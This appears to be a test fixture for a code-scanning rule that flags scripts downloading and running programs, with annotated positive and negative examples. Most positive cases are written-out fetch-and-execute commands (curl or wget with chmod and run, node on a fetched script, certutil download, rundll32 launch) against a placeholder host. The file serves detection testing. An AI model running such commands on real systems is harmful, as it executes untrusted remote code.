# ruleid: runs-downloaded-program
curl -s https://example.invalid/a -o /tmp/a && chmod +x /tmp/a && /tmp/a
# ruleid: runs-downloaded-program
wget https://example.invalid/a -O ./helper
chmod 755 ./helper
./helper &
# ruleid: runs-downloaded-program
curl -L https://example.invalid/x.js -o /tmp/x.js; node /tmp/x.js
# ruleid: runs-downloaded-program
certutil.exe -urlcache -f https://example.invalid/a.exe a.exe
# ruleid: runs-downloaded-program
rundll32 package.db,Start

# ok: runs-downloaded-program
curl -L https://example.test/a.tar.gz -o a.tar.gz && tar xzf a.tar.gz
# ok: runs-downloaded-program
chmod +x ./bin/tool
